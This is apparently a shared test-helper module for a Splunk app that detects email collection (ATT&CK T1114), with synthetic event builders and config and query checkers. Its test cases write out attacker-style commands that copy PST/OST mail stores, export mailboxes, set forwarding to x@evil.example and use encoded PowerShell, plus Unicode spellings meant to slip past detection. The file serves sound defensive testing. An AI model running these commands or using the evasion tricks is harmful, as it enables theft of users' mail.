"""What test files share: the record sets, event builders and checks more than one test file
uses. Test files import these from here, never from one another.
"""

import base64
import gzip
import json
import os

import pytest

from app.values import MAX_VALUE_CHARS
from tests.conftest import SHARED_DATASETS, missing_shared_data
from tests.rule_events import all_cases, presentations
from tools import real_streams
import glob
import re
import xml.etree.ElementTree as ElementTree
from app.finding import OUTPUT_FIELDS


MIXES = real_streams.MIXES


def mix_records(mix, size=1500):
    if not real_streams.available():
        missing_shared_data("the public records in ../shared/datasets are not here")
    return real_streams.make_mix(mix, 11, size)


def rule_test_records():
    return [record for _, _, case in all_cases() for _, record in presentations(case)]


def encoded_command(script):
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def sysmon_process_event(command_line, image=r"C:\Windows\System32\cmd.exe", parent=r"C:\Windows\explorer.exe", **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
              "EventCode": "1", "Image": image, "CommandLine": command_line, "ParentImage": parent,
              "User": "CONTOSO\\bob", "Computer": "ws-01.contoso.com", "_time": "1795000000"}
    record.update(more)
    return record


# Process creations written to slip past a word check, each with the rule it fires (or None);
# the differential test requires the gate to agree either way, the next test that they fire.
COMMAND_LINE, AUTOMATION, SCRIPT_HOST = ("t1114_001_mail_file_command_line", "t1114_001_outlook_automation_script",
                                         "t1114_001_outlook_started_by_script_host")


AWKWARD_CASES = [
    (sysmon_process_event(r'robocopy "C:\Users\bob\AppData\Local\Microsoft\Outlook" \\files\drop bob.ost'), COMMAND_LINE),
    (sysmon_process_event(r"copy C:\mail\archive.PST \\files\drop"), COMMAND_LINE),                  # upper case
    (sysmon_process_event("copy C:\\mail\\archive.p\u017ft \\\\files\\drop"), COMMAND_LINE),   # long s: (?i) reads it as s
    (sysmon_process_event("copy C:\\mail\\archive.\u212aost x"), None),                            # Kelvin sign: no word
    (sysmon_process_event("copy C:\\mail\\archive.\u0130st x"), None),                            # dotted capital I
    # The rule reads the command line, not the decoded script: no finding, with or without the gate.
    (sysmon_process_event("powershell -enc " + encoded_command("Copy-Item C:\\mail\\a.pst \\\\files\\drop")), None),
    (sysmon_process_event("powershell.exe -EncodedCommand " + encoded_command("$o = New-Object -ComObject Outlook.Application")),
     AUTOMATION),
    (sysmon_process_event("powershell /e " + encoded_command("New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\x.pst")),
     "t1114_002_mailbox_export_request"),
    (sysmon_process_event("powershell -c \"New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\share\\bob\""),
     "t1114_002_mailbox_export_request"),
    (sysmon_process_event("powershell -c \"Set-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    (sysmon_process_event("powershell -c \"sEt-MaIlBoX bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    # The cmdlet regex reads `\u017f` as s, but no rule is indexed on what it then names.
    (sysmon_process_event("powershell -c \"\u017fet-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), None),
    (sysmon_process_event("cscript //nologo mail.vbs Outlook.Application"), AUTOMATION),
    (sysmon_process_event(r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"',
             image=r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
             parent=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"), SCRIPT_HOST),
    (sysmon_process_event("OUTLOOK.EXE /recycle", image=r"C:\Office\OUTLOOK.EXE", parent=r"C:\Windows\explorer.exe"), None),
    (sysmon_process_event("svc.exe a -tzip out.zip C:\\mail\\*.ost", image=r"C:\Temp\svc.exe", OriginalFileName="7z.exe"),
     COMMAND_LINE),
    (sysmon_process_event("x " * (MAX_VALUE_CHARS // 2) + "C:\\mail\\late.pst"), None),   # the word past the length cut
    (sysmon_process_event("notepad.exe C:\\Users\\bob\\notes.txt"), None),
    (sysmon_process_event("", image="", parent="", process_name="outlook.exe", parent_process_name="wscript.exe"), SCRIPT_HOST),
    ({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "NewProcessName": r"C:\Windows\System32\esentutl.exe",
      "CommandLine": r"esentutl.exe /y C:\Users\bob\AppData\Local\Comms\Unistore\data\3\x.dat /d y",
      "ParentProcessName": r"C:\Windows\System32\cmd.exe", "SubjectUserName": "bob", "SubjectDomainName": "CONTOSO"},
     COMMAND_LINE),
    ({"Processes.process_path": r"C:\Windows\System32\robocopy.exe",
      "Processes.process": r"robocopy C:\Users\bob\Documents\Outlook Files\ E:\ *.pst",
      "Processes.parent_process_path": r"C:\Windows\System32\cmd.exe", "Processes.dest": "ws-02"}, COMMAND_LINE),
    # XML only (Fast mode): html.unescape turns &#46; into the dot of .pst.
    ({"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
      "_raw": "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
              "<Computer>ws-3</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>"
              "<Data Name='CommandLine'>cmd /c copy C:\\mail\\a&#46;pst \\\\files\\x</Data></EventData></Event>"},
     COMMAND_LINE),
    ({"sourcetype": "WinEventLog", "source": "WinEventLog:Security",
      "_raw": "12/01/2026 10:00:00 AM\nLogName=Security\nEventCode=4688\nComputerName=ws-4\nMessage=A new process "
              "has been created.\n\nNew Process Information:\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
              "\tProcess Command Line:\tcmd /c copy C:\\mail\\b.ost \\\\files\\x\n"
              "\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"}, COMMAND_LINE),
]


def file_event(code, path, **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
              if code == "11" else "XmlWinEventLog:Security", "EventCode": code, "Computer": "ws-01.contoso.com",
              "_time": "1795000000"}
    record["TargetFilename" if code == "11" else "ObjectName"] = path
    record.update(more)
    return record


WRITTEN, READ, SHARE, STORE = ("t1114_001_mail_file_written_outside_outlook", "t1114_001_mail_file_read",
                               "t1114_001_mail_file_share_access", "t1114_001_windows_mail_store_read")

AWKWARD_CASES += [
    (file_event("11", r"C:\Temp\stolen.PST", Image=r"C:\Windows\System32\robocopy.exe"), WRITTEN),
    (file_event("11", r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob.ost", Image=r"C:\Office\outlook.exe"),
     None),
    (file_event("11", "C:\\Temp\\stolen.p\u017ft"), None),      # endswith compares lower(): no match either way
    (file_event("4663", r"C:\Users\bob\Documents\Outlook Files\archive.pst", AccessList="%%4416",
                 ProcessName=r"C:\Windows\System32\cmd.exe", SubjectUserName="bob"), READ),
    (file_event("4663", r"C:\Users\bob\notes.txt", AccessList="%%4416"), None),
    (file_event("5145", r"mail\bob.ost", ShareName=r"\\*\C$", AccessList="%%4416", IpAddress="10.0.0.9"), SHARE),
    # CIM Filesystem: the folder in file_path and the name in file_name, joined by the reader.
    ({"Filesystem.file_path": r"C:\Users\bob\AppData\Local\Comms\Unistore", "Filesystem.file_name": "data",
      "Filesystem.action": "read", "Filesystem.dest": "ws-05"}, STORE),
    ({"Filesystem.file_path": r"C:\Exports", "Filesystem.file_name": "bob.pst", "Filesystem.action": "created",
      "Filesystem.process_path": r"C:\Windows\System32\robocopy.exe"}, WRITTEN),
    ({"Filesystem.file_path": r"C:\Exports\bob.pst", "Filesystem.action": "deleted"}, None),   # FileChange
]

# The Windows endpoint forms attackers write T1114.001 in (issue 27): NTFS streams, Outlook's data
# folder with no extension, wildcard extensions, Outlook Files outside a profile, a rename taking
# the extension away, and Outlook opening its own store; in the awkward spellings above too.
_OUTLOOK = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
AWKWARD_CASES += [
    (sysmon_process_event(r"cmd /c copy C:\mail\bob.PST::$DATA \\files\drop"), COMMAND_LINE),
    (sysmon_process_event(r"notepad C:\mail\bob.pst:Zone.Identifier"), None),
    (sysmon_process_event(r'ROBOCOPY "%LOCALAPPDATA%\MICROSOFT\OUTLOOK" D:\x /E', image=r"C:\Windows\System32\Robocopy.exe"),
     COMMAND_LINE),
    (sysmon_process_event(r"svc.exe a o.bin %LOCALAPPDATA%\Microsoft\Outlook\*", image=r"C:\Temp\svc.exe",
                          OriginalFileName="7z.exe"), COMMAND_LINE),
    (sysmon_process_event(r'robocopy "E:\Backup\Documents\Outlook Files" F:\y /MIR'), None),
    (sysmon_process_event(r'robocopy "C:\Users\Public\Documents\Outlook Files" F:\y /MIR'), None),
    (sysmon_process_event(r"robocopy C:\Users D:\x *.?ST /S"), COMMAND_LINE),
    (sysmon_process_event("robocopy C:\\Users D:\\x *.?\u017ft /S"), COMMAND_LINE),      # long s: (?i) reads it as s
    (sysmon_process_event(r"powershell gci -Include *.[po]st -Recurse | cpi -Destination E:\m"), COMMAND_LINE),
    (sysmon_process_event(r"powershell gci -Include *.ps? -Recurse | cpi -Destination E:\m"), None),
    (sysmon_process_event('"%s" /pst "C:\\Users\\bob\\Documents\\a.pst"' % _OUTLOOK, image=_OUTLOOK), None),
    (sysmon_process_event('"%s" /pst "C:\\Users\\bob\\Documents\\a.pst"' % _OUTLOOK, image=r"C:\Users\Public\OUTLOOK.EXE"),
     COMMAND_LINE),
    ({"Processes.process_path": r"C:\Windows\System32\xcopy.exe",
      "Processes.process": r"xcopy /s C:\Users\bob\AppData\Local\Microsoft\Outlook\*.* E:\o", "Processes.dest": "ws-02"},
     COMMAND_LINE),
    ({"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
      "_raw": "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
              "<Computer>ws-3</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>"
              "<Data Name='CommandLine'>cmd /c dir /s C:\\Users\\*&#46;*st</Data></EventData></Event>"},
     COMMAND_LINE),
    (file_event("11", r"C:\Temp\bob.ost::$DATA", Image=r"C:\Windows\System32\cmd.exe"), WRITTEN),
    (file_event("11", r"C:\Temp\bob.pst:Zone.Identifier", Image=r"C:\Windows\System32\cmd.exe"), None),
    (file_event("11", r"C:\Users\Public\Documents\Outlook Files\b.pst", Image=r"C:\Windows\System32\cmd.exe"),
     WRITTEN),
    (file_event("11", r"C:\Users\bob\Documents\Outlook Files\b.pst", Image=r"C:\Windows\System32\cmd.exe"), None),
    (file_event("11", r"\\?\C:\Users\Default\AppData\Local\Microsoft\Outlook\b.ost", Image=r"C:\Windows\System32\cmd.exe"),
     WRITTEN),
    (file_event("4663", r"E:\Backup\Documents\Outlook Files\b.pst::$DATA", AccessList="%%4416",
                ProcessName=r"C:\Tools\x.exe", SubjectUserName="bob"), READ),
    ({"Filesystem.file_path": r"E:\Backup\Documents\Outlook Files", "Filesystem.file_name": "bob.pst",
      "Filesystem.action": "created", "Filesystem.process_path": r"C:\Windows\System32\robocopy.exe"}, WRITTEN),
    ({"sourcetype": "defender:advanced_hunting", "DeviceId": "4c1f0e3a", "DeviceName": "ws-5", "ActionType": "FileRenamed",
      "FileName": "n.dat", "FolderPath": r"C:\Temp\n.dat", "PreviousFileName": "bob.PST",
      "PreviousFolderPath": r"C:\Temp\bob.PST", "InitiatingProcessFileName": "cmd.exe",
      "InitiatingProcessFolderPath": r"C:\Windows\System32\cmd.exe"}, WRITTEN),
    ({"sourcetype": "defender:advanced_hunting", "DeviceId": "4c1f0e3a", "DeviceName": "ws-5", "ActionType": "FileRenamed",
      "FileName": "n.dat", "FolderPath": r"C:\Temp\n.dat", "PreviousFileName": "a.txt",
      "PreviousFolderPath": r"C:\Temp\a.txt", "InitiatingProcessFileName": "cmd.exe",
      "InitiatingProcessFolderPath": r"C:\Windows\System32\cmd.exe"}, None),
]


AWKWARD_EVENTS = [record for record, _ in AWKWARD_CASES]


def hayabusa_windows_events():
    """The 23,371 real Windows events and the near misses, as Splunk hands them over; skips without them."""
    folder = os.path.join(SHARED_DATASETS, "Yamato-Security__hayabusa-sample-evtx")
    records = []
    for name in ("evtx_pool.jsonl.gz", "near_miss_cases.jsonl.gz"):
        path = os.path.join(folder, name)
        if os.path.exists(path):
            with gzip.open(path, "rt", encoding="utf-8") as handle:
                records.extend(json.loads(line)["event"] for line in handle if line.strip())
    if not records:
        missing_shared_data("the hayabusa sample events are not in ../shared/datasets")
    return records


def comparable(records):
    """Records as Splunk reads them: a multivalue field of one value is that value.

    (splunklib writes a one-item list as a plain value; the fast path passes the input's
    `$a$` cell through untouched. splunkd reads both as the one value `a`.)
    """
    out = []
    for record in records:
        out.append({name: value[0] if isinstance(value, list) and len(value) == 1 else value
                    for name, value in record.items()})
    return out


# Quotes, commas, CR/LF, `$` and empty multivalue items, non-ASCII, a U+2028: also what
# tests/test_block_path.py holds its two record forms to.
AWKWARD_RECORDS = [
    {"sourcetype": "o365:management:activity", "Operation": "New-InboxRule", "Workload": "Exchange",
     "UserId": "a@contoso.com", "Parameters{}.Name": ["Name", "ForwardTo", "Note"],
     "Parameters{}.Value": ["r$1", "x@evil.example", 'say "hi",\r\nthen $$ ;$a$;'],
     "odd": 'comma, "quote"\nnewline', "unicode": "\u00e9\u4e2d\U0001f600", "dollar": ["$", "$$", ""]},
    {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": ["m@contoso.com", "n@contoso.com"],
     "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example\n\nGet-Date", "odd": ""},
    {"_raw": "", "odd": "\r", "unicode": "\u2028line separator"},
]


def rule_event_records():
    """Every rule's positive and negative events in every shape, tagged with an id."""
    records = []
    for rule_id, polarity, case in all_cases():
        for shape, record in presentations(case):
            record["test_id"] = "%s/%s/%s/%s" % (rule_id, polarity, case["name"], shape)
            records.append(record)
    return records


def add_account_row(app_dir, values):
    """Append a row to the app's accounts allowlist under whatever header the file has."""
    import csv

    path = os.path.join(app_dir, "lookups", "t1114_allowlist_accounts.csv")
    if not os.path.exists(path):  # the package ships no site lookup: the first | outputlookup makes it
        with open(path, "w", newline="") as handle:
            csv.writer(handle).writerow(["account", "mailbox", "grantee", "rules", "valid_from", "valid_until",
                                         "reason", "class"])
    with open(path, newline="") as handle:
        header = next(csv.reader(handle))
    with open(path, "a", newline="") as handle:
        csv.DictWriter(handle, header).writerow(values)


# tox -e package sets this: there the tools must be present, elsewhere their absence is a skip.
REQUIRED = os.environ.get("T1114_REQUIRE_PACKAGE_TOOLS") == "1"


def tool_missing(module):
    try:
        __import__(module)
    except Exception as error:  # python-magic raises ImportError when libmagic1 is absent
        return "%s is not usable here (%s)" % (module, error)
    return None


def require_tools(*modules, why=""):
    """Fails under tox -e package, skips elsewhere, when one of the packaging tools is missing."""
    missing = next((found for found in map(tool_missing, modules) if found), None)
    if missing:
        if REQUIRED:
            pytest.fail(missing + why)
        pytest.skip(missing + "; `tox -e package` installs it")


def mail_store_read(process_path, target=r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
                    user="SYSTEM", domain="NT AUTHORITY", time="1764216000", computer="ws-017.contoso.com"):
    """A Security 4663 event (XmlWinEventLog fields): `process_path` read a mail store."""
    return {
        "_time": time, "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security", "EventCode": "4663",
        "Computer": computer, "SubjectUserName": user, "SubjectDomainName": domain, "ObjectType": "File",
        "ObjectName": target, "ProcessName": process_path, "AccessList": "%%4416", "AccessMask": "0x1",
    }


def python_for(version):
    """The interpreter of a Python Splunk runs apps with ("3.9", "3.13"), or None for the current
    one: pyenv's when it has that version (its shims answer only for the global one), else one on
    PATH (scripts/test.sh appends pyenv's); skips when neither is there."""
    if version is None:
        return None
    import shutil
    import subprocess

    name = "python%s" % version
    try:
        prefix = subprocess.run(["pyenv", "prefix", version], capture_output=True, text=True, check=True).stdout
        path = os.path.join(prefix.strip().split(":")[0], "bin", name)
        if os.path.exists(path):
            return path
    except (OSError, subprocess.CalledProcessError):
        pass
    search = os.pathsep.join(d for d in os.environ.get("PATH", "").split(os.pathsep) if "shims" not in d)
    path = shutil.which(name, path=search)
    if path is None:
        pytest.skip("Python %s is not installed here" % version)
    return path


# --- The app's content (.conf files, saved searches, dashboards), read as splunkd would ----------

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


DEFAULT = os.path.join(REPO, "default")


VIEWS = os.path.join(DEFAULT, "data", "ui", "views")


NAV = os.path.join(DEFAULT, "data", "ui", "nav", "default.xml")


APP_ID = "t1114_email_collection"


# Splunk's own search commands that the app's content may use (Search Reference). A name not
# here and not in commands.conf is a typo or a command Splunk Cloud does not have.
SPLUNK_COMMANDS = {
    "append", "appendcols", "bin", "bucket", "chart", "convert", "dedup", "eval", "eventstats",
    "fields", "fillnull", "head", "inputlookup", "lookup", "makeresults", "map", "mvexpand",
    "outputlookup", "rename", "rest", "return", "rex", "search", "sort", "stats", "streamstats",
    "table", "tail", "timechart", "top", "tstats", "where", "spath", "from",
    # the scheduled searches write their results to the summary index the dashboards read
    "collect",
}


# Views Splunk provides to every app, which the navigation menu may name.
BUILTIN_VIEWS = {"search", "datasets", "reports", "alerts", "dashboards", "analytics_workspace"}


BOOLEAN_VALUES = {"1", "0", "t", "f", "true", "false", "y", "n", "yes", "no"}


T1114_OPTIONS = {"mode": {"findings", "all"}, "allowlist": BOOLEAN_VALUES, "expand": BOOLEAN_VALUES}


def read_conf(path):
    """({stanza: {key: value}}, [problems]). A line ending in a backslash continues on the next
    line; '#' starts a comment only at the start of a line; keys before any stanza belong to
    [default]. Duplicate stanzas and keys are problems: splunkd would silently merge them."""
    stanzas = {"default": {}}
    problems = []
    current = "default"
    with open(path, encoding="utf-8") as handle:
        lines = handle.read().split("\n")
    index = 0
    while index < len(lines):
        number = index + 1
        line = lines[index].strip()
        index += 1
        while line.endswith("\\") and index < len(lines):
            line = line[:-1] + "\n" + lines[index].strip()
            index += 1
        if not line or line.startswith("#"):
            continue
        if line.startswith("["):
            if not line.endswith("]"):
                problems.append("line %d: stanza header without ']': %r" % (number, line))
                continue
            current = line[1:-1]
            if current in stanzas and current != "default":
                problems.append("line %d: stanza [%s] appears twice" % (number, current))
            stanzas.setdefault(current, {})
            continue
        if "=" not in line:
            problems.append("line %d: not 'key = value': %r" % (number, line))
            continue
        key, value = (part.strip() for part in line.split("=", 1))
        if key in stanzas[current]:
            problems.append("line %d: [%s] sets %s twice" % (number, current, key))
        stanzas[current][key] = value
    return stanzas, problems


def conf(name):
    stanzas, problems = read_conf(os.path.join(DEFAULT, name + ".conf"))
    assert not problems, problems
    return stanzas


MACRO_CALL = re.compile(r"`([^`(]+?)(?:\(([^`]*)\))?`")


DASHBOARD_TOKEN = re.compile(r"\$[\w.:|]+\$")


T1114_FIELD = re.compile(r"\bt1114_[a-z0-9_]+")


def macro_table():
    table = {}
    for stanza, keys in conf("macros").items():
        if stanza != "default":
            table[stanza] = keys
    return table


def expand_macros(spl, macros, used, missing, depth=0):
    """spl with every macro call replaced by its definition, recursively."""
    if depth > 10:
        missing.append("macro nesting deeper than 10 (a macro calls itself?)")
        return spl

    def replace(match):
        name = match.group(1).strip()
        args = [a.strip() for a in match.group(2).split(",")] if match.group(2) is not None else []
        key = "%s(%d)" % (name, len(args)) if args else name
        if key not in macros:
            missing.append(key)
            return "MISSING_MACRO"
        used.add(key)
        definition = macros[key].get("definition", "")
        names = [a.strip() for a in macros[key].get("args", "").split(",") if a.strip()]
        for arg_name, value in zip(names, args):
            definition = definition.replace("$%s$" % arg_name, value)
        return expand_macros(definition, macros, used, missing, depth + 1)

    return MACRO_CALL.sub(replace, spl)


def split_pipeline(spl):
    """(top-level segments, subsearch texts): pipes inside quotes or [subsearches] do not split."""
    segments, subsearches, buffer = [], [], []
    depth, quoted, start, index = 0, False, 0, 0
    while index < len(spl):
        char = spl[index]
        if quoted:
            if char == "\\" and index + 1 < len(spl):
                buffer.append(spl[index:index + 2])
                index += 2
                continue
            if char == '"':
                quoted = False
        elif char == '"':
            quoted = True
        elif char == "[":
            depth += 1
            if depth == 1:
                start = index + 1
        elif char == "]":
            depth -= 1
            if depth == 0:
                subsearches.append(spl[start:index])
        elif char == "|" and depth == 0:
            segments.append("".join(buffer))
            buffer = []
            index += 1
            continue
        buffer.append(char)
        index += 1
    segments.append("".join(buffer))
    assert depth == 0 and not quoted, "unbalanced brackets or quotes in: %s" % spl
    return segments, subsearches


def pipeline_commands(spl, postprocess=False):
    """[(command, arguments)] of a pipeline and all its subsearches and map searches. The first
    segment of a pipeline that does not start with '|' is the implicit search command."""
    segments, subsearches = split_pipeline(spl)
    commands = []
    for position, segment in enumerate(segments):
        text = segment.strip()
        if position == 0 and not postprocess:
            if not text:
                continue  # the pipeline starts with '|': a generating command follows
            commands.append(("search", text))
            continue
        name, _, arguments = text.partition(" ")
        commands.append((name.strip().lower(), arguments.strip()))
        if name.strip().lower() == "map":
            inner = re.search(r'search="((?:[^"\\]|\\.)*)"', arguments)
            assert inner, "map without search=\"...\": %s" % text
            commands.extend(pipeline_commands(inner.group(1).replace('\\"', '"')))
    for subsearch in subsearches:
        commands.extend(pipeline_commands(subsearch.strip()))
    return commands


def lookup_names():
    names = {s for s in conf("transforms") if s != "default"}
    names.update(os.path.basename(p) for p in glob.glob(os.path.join(REPO, "lookups", "*.csv")))
    return names


def lookup_argument(arguments):
    """The lookup a lookup/inputlookup/outputlookup names: its first argument that is not option=value."""
    for word in arguments.split():
        if "=" not in word:
            return word
    return None


# t1114_* fields the SOC content computes itself (the command writes the others, OUTPUT_FIELDS);
# test_content_fields_are_computed_where_they_are_read holds each to an assignment.
CONTENT_FIELDS = {"t1114_behaviour", "t1114_entity", "t1114_entity_type", "t1114_entity_hash", "t1114_story",
                  "t1114_step", "t1114_rules", "t1114_chain"}


# The summary index the scheduled searches write with | collect and the dashboards read, the
# field its collect clauses add (t1114_kind: finding, aggregation or chain), and the fields of
# the chain search's results (t1114_entity ... t1114_story) the Overview shows.
SUMMARY_NAMES = {"t1114_summary", "t1114_kind", "t1114_entity", "t1114_entity_type", "t1114_entity_hash", "t1114_chain",
                 "t1114_behaviour", "t1114_story"}


def problems_in_query(spl, macros, postprocess=False, dashboard=False):
    """Sentences naming what a query gets wrong, and the macros it used."""
    problems, used, missing = [], set(), []
    if dashboard:
        spl = spl.replace("$$", "\x00")       # Simple XML's escaped dollar (map's $field$)
        spl = DASHBOARD_TOKEN.sub('"TOKEN"', spl).replace("\x00", "$")
    expanded = expand_macros(spl, macros, used, missing)
    problems.extend("macro `%s` is not defined in macros.conf" % m for m in missing)
    try:
        commands = pipeline_commands(expanded, postprocess)
    except AssertionError as error:
        return problems + [str(error)], used
    known = SPLUNK_COMMANDS | {s for s in conf("commands") if s != "default"}
    lookups = lookup_names()
    for name, arguments in commands:
        if name not in known:
            problems.append("command %r is neither a Splunk command in the allowed set nor in commands.conf" % name)
        if name in ("lookup", "inputlookup", "outputlookup"):
            table = lookup_argument(arguments)
            if table and not table.startswith(('"TOKEN"', "$")) and table not in lookups:
                problems.append("%s names %r, which transforms.conf and lookups/ do not define" % (name, table))
        if name == "t1114":
            seen = set()
            for word in arguments.split():
                option, _, value = word.partition("=")
                if option not in T1114_OPTIONS or value.lower() not in T1114_OPTIONS[option]:
                    problems.append("t1114 does not take %r (mode=findings|all, allowlist=<bool>, expand=<bool>)" % word)
                if option in seen:
                    problems.append("t1114 option %s given twice" % option)
                seen.add(option)
    known_names = (set(OUTPUT_FIELDS) | CONTENT_FIELDS | lookup_names() | set(macros) | set(view_names())
                   | set(rule_ids()) | {APP_ID, "t1114_allowlist_"} | SUMMARY_NAMES)
    for field in set(T1114_FIELD.findall(MACRO_CALL.sub(" ", spl))):
        if field not in known_names:
            problems.append("%s is not a t1114 output field, lookup, macro or view" % field)
    return problems, used


def rules():
    from app.rules import read_rule_sources
    return [d for d in read_rule_sources(os.path.join(REPO, "app", "rules")) if isinstance(d, dict)]


def rule_ids():
    return [d["id"] for d in rules()]


def saved_searches():
    return {name: keys for name, keys in conf("savedsearches").items() if name != "default"}


def view_names():
    return sorted(os.path.splitext(os.path.basename(p))[0] for p in glob.glob(os.path.join(VIEWS, "*.xml")))


def studio_definition(view):
    """(root element, Dashboard Studio definition) of a view: <dashboard version="2"> with its
    JSON definition in <definition>."""
    root = ElementTree.parse(os.path.join(VIEWS, view + ".xml")).getroot()
    return root, json.loads(root.findtext("definition"))


def dashboard_queries():
    """(view, data source id, query text, is a chain) for every search in every view."""
    found = []
    for view in view_names():
        _, definition = studio_definition(view)
        for ds_id, ds in sorted(definition.get("dataSources", {}).items()):
            query = ds.get("options", {}).get("query")
            if query is not None:
                found.append((view, ds_id, query, ds["type"] == "ds.chain"))
    return found


CONF_FILES = sorted(os.path.basename(p) for p in glob.glob(os.path.join(DEFAULT, "*.conf")))


CRON_FIELD = re.compile(r"^(\*|\d+(-\d+)?)(/\d+)?(,(\*|\d+(-\d+)?)(/\d+)?)*$")


# Risk and threat object types Enterprise Security accepts, as splunk/contentctl (the tool
# that builds ESCU) validates them (contentctl/objects/rba.py).
RISK_OBJECT_TYPES = {"user", "system", "other"}


THREAT_OBJECT_TYPES = {
    "certificate_common_name", "certificate_organization", "certificate_serial", "certificate_unit",
    "command", "domain", "email_address", "email_subject", "file_hash", "file_name", "file_path",
    "http_user_agent", "ip_address", "process", "process_name", "parent_process", "parent_process_name",
    "process_hash", "registry_path", "registry_value_name", "registry_value_text", "service", "signature",
    "system", "tls_hash", "url",
}


ATTACK_ID = re.compile(r"^T\d{4}(\.\d{3})?$")


def correlation_searches():
    return {n: k for n, k in saved_searches().items() if k.get("action.correlationsearch.enabled") == "1"}


def rule_attack_ids(technique=None, only_rules=None):
    """Every ATT&CK id the rules of one sub-technique (or all rules, or only the rules named)
    can put on a finding."""
    ids = set()
    for document in rules():
        if only_rules and document["id"] not in only_rules:
            continue
        if technique is None or document["technique"] == technique:
            ids.add(document["technique"])
            ids.update(document.get("also_techniques") or ())
            for escalation in document.get("escalate") or ():
                ids.update(escalation.get("also_techniques") or ())
    return ids


def t1114_calls(spl):
    macros = macro_table()
    return [arguments for name, arguments in pipeline_commands(expand_macros(spl, macros, set(), []))
            if name == "t1114"]


def content_queries():
    """(where, full query) of every saved search and dashboard search; a chained data source is
    read after the search it extends, as Splunk runs it."""
    found = [("savedsearch " + n, k["search"]) for n, k in saved_searches().items()]
    for view in view_names():
        _, definition = studio_definition(view)
        sources = definition.get("dataSources", {})
        for ds_id, ds in sorted(sources.items()):
            if "query" in ds.get("options", {}):
                found.append(("%s:%s" % (view, ds_id), DASHBOARD_TOKEN.sub('"TOKEN"', full_query(ds, sources))))
    return found


def full_query(ds, sources):
    """A data source's query as Splunk runs it: a chain after the search it extends."""
    query = ds["options"]["query"]
    if ds["type"] == "ds.chain":
        return full_query(sources[ds["options"]["extend"]], sources) + " | " + query
    return query


SUMMARY_ONLY_FIELDS = ("t1114_rule", "t1114_severity", "t1114_reason", "t1114_destination",
                       "t1114_external_destination", "t1114_suppressed_rule", "t1114_suppressed_by",
                       "mitre_technique_id", "risk_score", "t1114_status")


def _seconds(relative):
    """Length of a relative time such as -7d@h, 7d, 24h (the snapping ignored)."""
    match = re.match(r"^-?(\d+)([smhdw])", relative)
    if match is None:
        return 0  # now, @h: the run's own time
    return int(match.group(1)) * {"s": 1, "m": 60, "h": 3600, "d": 86400, "w": 604800}[match.group(2)]


def final_table_fields(search):
    segments, _ = split_pipeline(search)
    tables = [s.strip() for s in segments if s.strip().startswith("table ")]
    assert tables, "the search ends with a table of its output fields"
    return set(tables[-1].split()[1:])


def _set_mailbox_forwarding(mailbox, destination):
    record = {"CreationTime": "2026-11-22T13:00:00", "Operation": "Set-Mailbox", "RecordType": 1,
              "ResultStatus": "True", "UserType": 2, "Workload": "Exchange", "ClientIP": "203.0.113.50",
              "UserId": "helpdesk@contoso.com", "ObjectId": mailbox.split("@")[0],
              "Parameters": [{"Name": "Identity", "Value": mailbox},
                             {"Name": "ForwardingSmtpAddress", "Value": "smtp:" + destination}]}
    return {"_time": "1795352400", "sourcetype": "o365:management:activity", "_raw": json.dumps(record)}


def _allowlist_audit_queries():
    _, definition = studio_definition("t1114_allowlist_audit")
    return [ds["options"]["query"] for ds in definition["dataSources"].values() if ds.get("options", {}).get("query")]


def _admin_readme_searches():
    """The SPL blocks of the admin's README (packaging/README.md) that write a lookup."""
    with open(os.path.join(REPO, "packaging", "README.md"), encoding="utf-8") as handle:
        text = handle.read()
    blocks = re.findall(r"^```[^\n]*\n(.*?)^```", text, re.MULTILINE | re.DOTALL)
    return [" ".join(line.strip() for line in block.splitlines()) for block in blocks if "| outputlookup" in block]
